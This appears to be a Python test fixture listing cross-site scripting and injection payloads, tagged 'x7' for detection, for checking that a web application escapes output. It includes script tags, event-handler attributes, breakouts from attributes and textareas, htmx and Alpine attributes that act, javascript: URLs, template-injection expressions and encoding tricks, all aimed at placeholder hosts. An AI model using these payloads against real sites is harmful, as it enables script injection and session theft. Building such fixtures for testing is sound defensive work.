"""Texts that try to become script, markup, an attribute, an address or a template. Each carries ``x7``, to be found by."""

PAYLOADS = (
    # script and elements that run by themselves
    "<script>alert('x7')</script>", "<ScRiPt>alert('x7')</sCrIpT>", "<script src=//x7.invalid></script>",
    "<img src=x7 onerror=alert(7)>", "<img src=//x7.invalid/i.png>", "<svg onload=alert('x7')>",
    "<svg><script>alert('x7')</script></svg>", "<svg><animate onbegin=alert('x7') attributeName=x>", "<body onload=alert('x7')>",
    "<iframe src=//x7.invalid></iframe>", "<iframe srcdoc='<x7-p>'></iframe>", "<object data=//x7.invalid></object>",
    "<embed src=//x7.invalid>", "<video><source onerror=alert('x7')></video>", "<audio src=//x7.invalid autoplay>",
    "<details open ontoggle=alert('x7')>", "<input autofocus onfocus=alert('x7')>", "<marquee onstart=alert('x7')>",
    "<math><mi xlink:href='javascript:x7'>", "<style>@import '//x7.invalid'</style>", "<link rel=stylesheet href=//x7.invalid>",
    "<base href=//x7.invalid/>", "<meta http-equiv=refresh content='0;//x7.invalid'>", "<form action=//x7.invalid><button>",
    "<template><x7-p></template>", "<noscript><x7-p></noscript>", "<a href=javascript:alert('x7')>x7</a>", "<x7-p>",
    # out of an attribute, a text area, a title, a script block, a comment
    '"><x7-p>', "'><x7-p>", '" onmouseover="alert(\'x7\')', "' autofocus onfocus='alert(\"x7\")", "x7 onmouseover=alert(7) y=",
    "</textarea><x7-p>", "</title><x7-p>", "</script><x7-p>", "</style><x7-p>", "--><x7-p>", "]]><x7-p>", "</option></select><x7-p>",
    "</td></tr></table><x7-p>",
    # htmx and alpine: attributes that act
    '" hx-get="//x7.invalid" hx-trigger="load', "<p hx-get=//x7.invalid hx-trigger=load>", "<p hx-on:load=alert('x7')>",
    "<p data-hx-get=//x7.invalid hx-trigger=load>", "<p x-data x-init=alert('x7')>", '" x-init="alert(\'x7\')" @click="x7',
    "<p hx-ext=x7 hx-vals='js:{a:alert(7)}'>",
    # addresses and templates
    "javascript:alert('x7')", "java\tscript:alert('x7')", "data:text/html,<x7-p>", "//x7.invalid/a", "{{7*7}}x7", "{% raw %}x7",
    "${7*7}x7", "<%= 7*7 %>x7", "#{7*7}x7",
    # encodings
    "&lt;x7-p&gt;", "\\u003cx7-p\\u003e", "%3Cx7-p%3E", "\uff1cx7-p\uff1e", "\u202ex7<x7-p>", "<x7-p\u00a0a=1>",
)
